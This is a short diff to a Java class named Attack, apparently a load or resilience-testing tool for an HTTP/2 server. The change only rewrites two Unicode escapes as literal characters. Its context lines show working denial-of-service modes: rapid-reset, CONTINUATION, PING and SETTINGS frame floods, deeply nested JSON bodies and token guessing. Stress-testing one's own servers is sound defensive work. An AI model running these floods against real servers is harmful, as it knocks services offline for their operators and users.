@@ -50,7 +50,7 @@ final class Attack {
     private static final String PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, "");
 
     /** GET / over http to the authority "a", from the table that HPACK begins with. */
-    private static final String GET = "\u0082\u0084\u0086\u0041\u0001a";
+    private static final String GET = "\u0082\u0084\u0086A\u0001a";
 
     private static final int REPORT_SECONDS = 5;
 
@@ -96,7 +96,7 @@ final class Attack {
             case DEEP_BODIES -> clients(FAST_CLIENTS, socket -> body(socket, "{\"a\":".repeat(LARGE / 5)));
             case GUESSED_TOKENS -> clients(SLOW_CLIENTS, this::guess);
             case RAPID_RESET -> flood(i -> frame(1, 5, 2 * i + 1, GET) + frame(3, 0, 2 * i + 1, "\0\0\0\u0008"), "");
-            case CONTINUATIONS -> flood(i -> frame(9, 0, 1, "\0\u0001x\u0064" + "y".repeat(100)), frame(1, 1, 1, GET));
+            case CONTINUATIONS -> flood(i -> frame(9, 0, 1, "\0\u0001xd" + "y".repeat(100)), frame(1, 1, 1, GET));
             case PINGS -> flood(i -> frame(6, 0, 0, "12345678"), "");
             case SETTINGS -> flood(i -> frame(4, 0, 0, "\0\u0004\0\0\u00ff\u00ff"), "");
         }
